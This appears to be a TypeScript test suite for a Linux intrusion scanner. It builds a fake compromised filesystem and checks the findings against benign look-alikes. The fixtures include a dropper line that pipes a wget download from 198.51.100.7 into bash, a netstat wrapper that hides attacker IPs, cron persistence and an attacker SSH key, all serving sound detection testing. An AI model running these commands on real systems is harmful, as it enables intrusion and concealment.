import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { after, describe, it } from 'node:test';
import { scanFixture as scan } from './helpers/scan-fixture';
import type { ScanResult } from '../src/model/scan-result';
import { chattr, chattrSupported, unlockTree } from './helpers/chattr';
import { FakeRoot } from './helpers/fake-root';
import { kernelObject } from './helpers/kernel-object';
import { inNamespace, SCAN_CMD, scanJson } from './helpers/namespace';
import { NEEDS_ROOT_OWNED_FILES } from './helpers/privilege';

// Inert stand-ins: an ELF header followed by zeros is enough for every check, and runs nowhere.
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(300)]);
const md5 = (b: string | Buffer) => createHash('md5').update(b).digest('hex');
const sha256 = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
const OLD = new Date('2025-02-01T00:00:00Z');

function filesFindings(result: ScanResult, floor: string[] = ['critical', 'high', 'medium']): string[] {
  return result.findings
    .filter((f) => f.rule.startsWith('files/') && floor.includes(f.severity))
    .map((f) => `${f.severity} ${f.rule} ${f.path}`)
    .sort();
}

const NETSTAT_FILTER = '#!/bin/bash\n# netstat wrapper\n/usr/sbin/.netstat "$@" | grep -v -E "3333|45.9.148.99|kswapd0"\n';

/** Programs user toolchains, containers and admins leave in the places the footholds use: never medium. */
function benignLookAlikes(r: FakeRoot): void {
  r.write('/home/dev/.vscode-server/bin/1a2b3c/node', ELF, { mode: 0o755 })
    .write('/home/dev/.cargo/bin/rg', ELF, { mode: 0o755 })
    .write('/root/.cache/pip/wheels/ab/_speedups.so', ELF, { mode: 0o755 })
    .write('/home/dev/.local/bin/httpie', ELF, { mode: 0o755 })
    .write('/var/lib/docker/overlay2/x', ELF, { mode: 0o755 })
    .write('/usr/local/bin/backup.sh', '#!/bin/sh\ntar czf /srv/backup.tgz /etc\n', { mode: 0o755, mtime: OLD })
    .write('/etc/resolv.conf', 'nameserver 192.0.2.53\n');
}

/** A compromised Debian-like tree with the seeds' indicators, next to the benign things admins and packages make. */
function buildCompromisedRoot(r: FakeRoot): void {
  r.base()
    .write('/bin/ls', ELF, { mode: 0o755 })
    .write('/usr/bin/ps', Buffer.concat([ELF, Buffer.from('trojan')]), { mode: 0o755 })
    .write('/usr/bin/top', Buffer.concat([ELF, Buffer.from('top')]), { mode: 0o755 })
    .write('/var/lib/dpkg/info/procps.list', '/usr/bin/ps\n/usr/bin/top\n')
    .write(
      '/var/lib/dpkg/info/procps.md5sums',
      `${md5(Buffer.concat([ELF, Buffer.from('ps')]))}  usr/bin/ps\n${md5(Buffer.concat([ELF, Buffer.from('top')]))}  usr/bin/top\n`,
    )
    // attacker
    .write('/tmp/kworkerds', ELF, { mode: 0o755 })
    .write('/tmp/.ICE-unix/updater', ELF, { mode: 0o755 })
    .write('/var/tmp/m.sh', '#!/bin/bash\npkill -9 xmrig\nwget -qO- http://198.51.100.7/x.sh | bash\n', { mode: 0o755 })
    .write('/tmp/notes.sh', '#!/bin/sh\necho hello\n')
    .write('/tmp/.sh', ELF, { mode: 0o4755 })
    .write('/usr/bin/srstomucra', ELF, { mode: 0o755 })
    .write('/etc/cron.hourly/gcc.sh', '#!/bin/sh\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n', { mode: 0o755 })
    .write('/usr/lib/.x/bioset', ELF, { mode: 0o755 })
    .mkdir('/var/tmp/...')
    .write('/root/.ssh/authorized_keys', 'ssh-rsa AAAAB3Nza attacker@vps\n', { mode: 0o600 })
    // footholds outside the usual places: home dot-directories, /var/lib, /etc, a filtering netstat
    .write('/home/web/.cache/.x/kswapd0', ELF, { mode: 0o755 })
    .write('/home/web/.config/.kde/bin/kded4', ELF, { mode: 0o755 })
    .write('/var/spool/cron/crontabs/web', '* * * * * /home/web/.config/.kde/bin/kded4 >/dev/null 2>&1\n', { mode: 0o600 })
    .write('/root/.cache/.x/data', kernelObject('diamorphine'))
    .write('/var/lib/mysql-files/dbus', ELF, { mode: 0o755 })
    .write('/etc/kthreadd', ELF, { mode: 0o755 })
    .write('/usr/bin/netstat', NETSTAT_FILTER, { mode: 0o755 })
    .write('/usr/sbin/.netstat', Buffer.concat([ELF, Buffer.from('netstat')]), { mode: 0o755 })
    .write('/var/lib/dpkg/info/net-tools.list', '/usr/bin/netstat\n')
    .write('/var/lib/dpkg/info/net-tools.md5sums', `${md5(Buffer.concat([ELF, Buffer.from('netstat')]))}  usr/bin/netstat\n`);
  benignLookAlikes(r);
  r
    // benign look-alikes
    .symlink('/usr/bin/editor', '/etc/alternatives/editor')
    .write('/usr/sbin/policy-rc.d', '#!/bin/sh\nexit 101\n', { mode: 0o755 })
    .write('/etc/.git/hooks/pre-commit', '#!/bin/sh\netckeeper pre-commit -d /etc\n', { mode: 0o755 })
    .mkdir('/tmp/systemd-private-0a1b2c-nginx.service-Xy12/tmp')
    .write('/tmp/src-tree/a/b/tools/gen.sh', '#!/bin/sh\nexec make "$@"\n', { mode: 0o755 })
    .write('/usr/local/bin/terraform', ELF, { mode: 0o755, mtime: OLD })
    .symlink('/tmp/escape', '/etc/shadow')
    .symlink('/tmp/rootlink', '/')
    // attacker-controlled names and contents must not break anything
    .write('/tmp/evil\nname', Buffer.from([0, 0xff, 0xfe, 0x0a, 0x00]))
    .write('/tmp/junk.bin', Buffer.concat([Buffer.from('\xff\xfe\x00garbage'), Buffer.alloc(70_000, 0x41)]));
  spawnSync('mkfifo', [r.p('/tmp/fifo0')]);
}

describe('files family, end to end on an offline root', () => {
  const r = new FakeRoot();
  after(() => {
    unlockTree(r.dir);
    r.remove();
  });
  buildCompromisedRoot(r);
  const support = chattrSupported(r.dir);

  it('finds the dropped payloads, the trojaned ps and the backdoors, and nothing benign', { skip: NEEDS_ROOT_OWNED_FILES }, async () => {
    if (support.ok) {
      chattr('+i', r.p('/etc/cron.hourly/gcc.sh'));
      chattr('+a', r.p('/root/.ssh/authorized_keys'));
    }
    try {
      const { result, snapshot } = await scan({ root: r.dir, sampleMs: 0 });
      const expected = [
        'critical files/known-malware-file /etc/cron.hourly/gcc.sh',
        'critical files/known-malware-file /tmp/.ICE-unix/updater',
        'critical files/known-malware-file /tmp/kworkerds',
        'critical files/replaced-system-binary /usr/bin/ps',
        'critical files/setid-unowned /tmp/.sh',
        'high files/executable-in-temp /tmp/.sh',
        'high files/executable-in-temp /var/tmp/m.sh',
        'high files/hidden-directory /usr/lib/.x',
        'high files/unowned-system-executable /usr/bin/srstomucra',
        'medium files/executable-in-temp /tmp/notes.sh',
        'medium files/hidden-directory /var/tmp/...',
        'critical files/replaced-system-binary /usr/bin/netstat',
        // the renamed original netstat, an unowned ELF in /usr/sbin
        'high files/hidden-directory /usr/sbin/.netstat',
        'high files/unowned-system-executable /usr/sbin/.netstat',
        'high files/dropped-executable /home/web/.config/.kde/bin/kded4',
        'medium files/dropped-executable /home/web/.cache/.x/kswapd0',
        'medium files/dropped-executable /var/lib/mysql-files/dbus',
        'medium files/dropped-system-file /etc/kthreadd',
      ];
      if (support.ok)
        expected.push(
          'high files/immutable-attribute /etc/cron.hourly/gcc.sh',
          'high files/immutable-attribute /root/.ssh/authorized_keys',
        );
      assert.deepEqual(filesFindings(result), expected.sort());

      // The dropper's content match is folded into the executable-in-temp finding, quoted.
      const dropper = result.findings.find((f) => f.path === '/var/tmp/m.sh');
      assert.match(
        dropper?.evidence.join('\n') ?? '',
        /content rule: download-execute .*\n.*wget -qO- http:\/\/198\.51\.100\.7\/x\.sh \| bash/,
      );
      const kworkerds = result.findings.find((f) => f.path === '/tmp/kworkerds');
      assert.ok(kworkerds?.evidence.includes(`sha256: ${sha256(ELF)}`), 'known malware carries its sha256');
      const ps = result.findings.find((f) => f.rule === 'files/replaced-system-binary' && f.path === '/usr/bin/ps');
      assert.ok(ps?.evidence.includes(`file md5: ${md5(Buffer.concat([ELF, Buffer.from('trojan')]))}`));
      assert.equal(result.stats.ruleErrors.length, 0, JSON.stringify(result.stats.ruleErrors));

      const gaps = result.gaps.filter((g) => ['fileInventory', 'packageIntegrity', 'fileAttributes'].includes(g.collector));
      assert.ok(
        gaps.some((g) => g.reason === 'file name contains a newline'),
        JSON.stringify(gaps),
      );
      assert.ok(!gaps.some((g) => g.reason.startsWith('collector failed')), JSON.stringify(gaps));
      // Symlinks are recorded, never followed out of the root.
      const entries = snapshot.facts.fileInventory?.entries ?? [];
      assert.equal(entries.find((e) => e.path === '/tmp/rootlink')?.kind, 'symlink');
      assert.ok(!entries.some((e) => e.path.startsWith('/tmp/rootlink/')));
      assert.equal(snapshot.facts.packageIntegrity?.checked, 3);
      const netstat = result.findings.find((f) => f.path === '/usr/bin/netstat');
      assert.match(netstat?.title ?? '', /hides 3333, 45\.9\.148\.99, kswapd0/);
      assert.ok(
        netstat?.evidence.includes('>> 3| /usr/sbin/.netstat "$@" | grep -v -E "3333|45.9.148.99|kswapd0"'),
        netstat?.evidence.join('\n'),
      );
      assert.ok(netstat?.evidence.includes('the real program now runs as /usr/sbin/.netstat'));
      const rootkit = result.findings.filter((f) => f.rule === 'rootkit/stray-kernel-module').map((f) => `${f.severity} ${f.path}`);
      assert.deepEqual(rootkit, ['critical /root/.cache/.x/data']);
      const kded = result.findings.find((f) => f.path === '/home/web/.config/.kde/bin/kded4');
      assert.ok(kded?.evidence.includes('started by /var/spool/cron/crontabs/web:1'), kded?.evidence.join('\n'));
    } finally {
      unlockTree(r.dir);
    }
  });

  it('the same tree with every indicator removed is silent at medium and above', async () => {
    const clean = new FakeRoot();
    try {
      clean
        .base()
        .write('/bin/ls', ELF, { mode: 0o755 })
        .write('/usr/bin/top', Buffer.concat([ELF, Buffer.from('top')]), { mode: 0o755 })
        .write('/var/lib/dpkg/info/procps.list', '/usr/bin/top\n')
        .write('/var/lib/dpkg/info/procps.md5sums', `${md5(Buffer.concat([ELF, Buffer.from('top')]))}  usr/bin/top\n`)
        .symlink('/usr/bin/editor', '/etc/alternatives/editor')
        .write('/usr/sbin/policy-rc.d', '#!/bin/sh\nexit 101\n', { mode: 0o755 })
        .write('/etc/.git/hooks/pre-commit', '#!/bin/sh\netckeeper pre-commit -d /etc\n', { mode: 0o755 })
        .mkdir('/tmp/systemd-private-0a1b2c-nginx.service-Xy12/tmp')
        .mkdir('/tmp/.X11-unix')
        .write('/tmp/src-tree/a/b/tools/gen.sh', '#!/bin/sh\nexec make "$@"\n', { mode: 0o755 })
        .write('/usr/local/bin/terraform', ELF, { mode: 0o755, mtime: OLD })
        .write('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3Nz admin@laptop\n', { mode: 0o600 });
      benignLookAlikes(clean);
      const { result } = await scan({ root: clean.dir, sampleMs: 0 });
      assert.deepEqual(filesFindings(result), []);
      assert.deepEqual(
        result.findings
          .filter((f) => f.rule.startsWith('rootkit/') && f.severity !== 'info')
          .map((f) => `${f.severity} ${f.rule} ${f.path}`),
        [],
      );
    } finally {
      clean.remove();
    }
  });
});

// chattr needs a filesystem that supports it; an ext4 image mounted in a private mount namespace
// is one everywhere (tmpfs /tmp included), and disappears with the namespace.
describe('immutable attributes on a real ext4 filesystem (mount namespace)', () => {
  const haveTools = ['unshare', 'mkfs.ext4', 'chattr'].every((t) => spawnSync('sh', ['-c', `command -v ${t}`]).status === 0);
  const skip = !haveTools ? 'needs unshare, mkfs.ext4 and chattr' : process.getuid?.() !== 0 ? 'needs root for loop mounts' : false;

  it('reports locked cron, shadow and authorized_keys, and unlocks everything afterwards', { skip }, () => {
    // Namespace scripts get a private, empty /tmp: the image and the tree are made inside it.
    const script = `
      img=$(mktemp /tmp/root-XXXX.img)
      truncate -s 32M "$img"
      mkfs.ext4 -q -F "$img"
      mnt=$(mktemp -d)
      mount -o loop "$img" "$mnt"
      trap 'chattr -R -ia "$mnt" 2>/dev/null; umount "$mnt"' EXIT
      mkdir -p "$mnt/etc/cron.d" "$mnt/root/.ssh" "$mnt/var/lib/dpkg/info" "$mnt/usr/bin"
      printf 'root:x:0:0:root:/root:/bin/bash\\n' > "$mnt/etc/passwd"
      printf 'root:*:19000:0:99999:7:::\\n' > "$mnt/etc/shadow"
      printf '*/10 * * * * root debian-sa1 1 1\\n' > "$mnt/etc/cron.d/sysstat"
      printf '0 3 * * * root /usr/local/sbin/backup\\n' > "$mnt/etc/cron.d/backup"
      printf 'ssh-rsa AAAAB3Nza attacker@vps\\n' > "$mnt/root/.ssh/authorized_keys"
      printf '/.\\n/etc\\n' > "$mnt/var/lib/dpkg/info/base-files.list"
      # A hardening guide's locks, with nothing else wrong in those files.
      mkdir -p "$mnt/etc/ssh"
      printf 'root:x:0:\n' > "$mnt/etc/group"
      printf 'root:*::\n' > "$mnt/etc/gshadow"
      printf 'PermitRootLogin prohibit-password\n' > "$mnt/etc/ssh/sshd_config"
      # Footholds locked so that removal fails: a program in a home's hidden directory, one directly in /etc.
      mkdir -p "$mnt/home/web/.cache/.x"
      printf '\\177ELF\\002\\001\\001\\000payload' > "$mnt/home/web/.cache/.x/kswapd0"
      printf '\\177ELF\\002\\001\\001\\000payload' > "$mnt/etc/kthreadd"
      chmod 755 "$mnt/home/web/.cache/.x/kswapd0" "$mnt/etc/kthreadd"
      chattr +i "$mnt/etc/cron.d/backup" "$mnt/etc/shadow" "$mnt/etc/passwd" "$mnt/etc/group" "$mnt/etc/gshadow" "$mnt/etc/ssh/sshd_config"
      chattr +i "$mnt/home/web/.cache/.x/kswapd0" "$mnt/etc/kthreadd"
      chattr +a "$mnt/root/.ssh/authorized_keys"
      # A replaced lsattr first in PATH that would say nothing is locked: the scan must not run it.
      fake=$(mktemp -d)
      printf '#!/bin/sh\ntouch %s/ran\nfor f; do echo "---------------------- $f"; done\n' "$fake" > "$fake/lsattr"
      chmod +x "$fake/lsattr"
      PATH="$fake:$PATH" ${SCAN_CMD} --root "$mnt" --sample 0 --json || true
      test ! -e "$fake/ran" || echo "FAKE LSATTR RAN" >&2
    `;
    const run = inNamespace(script, { net: false });
    assert.equal(run.stderr.includes('FAKE LSATTR RAN'), false, 'a program from PATH was run');
    const result = scanJson(run);
    assert.deepEqual(
      result.findings
        .filter((f) => f.rule === 'files/immutable-attribute')
        .map((f) => `${f.severity} ${f.path}`)
        .sort(),
      [
        'high /etc/cron.d/backup',
        'high /home/web/.cache/.x/kswapd0',
        'high /root/.ssh/authorized_keys',
        'low /etc/group',
        'low /etc/gshadow',
        'low /etc/passwd',
        'low /etc/shadow',
        'low /etc/ssh/sshd_config',
        // the lock is on a foothold: raised with it
        'medium /etc/kthreadd',
      ].sort(),
    );
    // A locked foothold carries the lock in its own finding, which raises it to high.
    for (const path of ['/home/web/.cache/.x/kswapd0', '/etc/kthreadd']) {
      const f = result.findings.find((x) => x.path === path && x.rule !== 'files/immutable-attribute');
      assert.equal(f?.severity, 'high', `${path}: ${JSON.stringify(f)}`);
      assert.ok(
        f?.evidence.some((e) => e.startsWith('immutable: removal will fail until chattr -i')),
        f?.evidence.join('\n'),
      );
    }
    // The hardening locks alone never reach medium.
    assert.deepEqual(
      result.findings
        .filter(
          (f) =>
            /^\/etc\/(passwd|shadow|group|gshadow|ssh\/sshd_config)$/.test(f.path ?? '') && f.severity !== 'low' && f.severity !== 'info',
        )
        .map((f) => `${f.rule} ${f.path}`),
      [],
    );
    assert.ok(!result.gaps.some((g) => g.collector === 'fileAttributes'), JSON.stringify(result.gaps));
  });
});
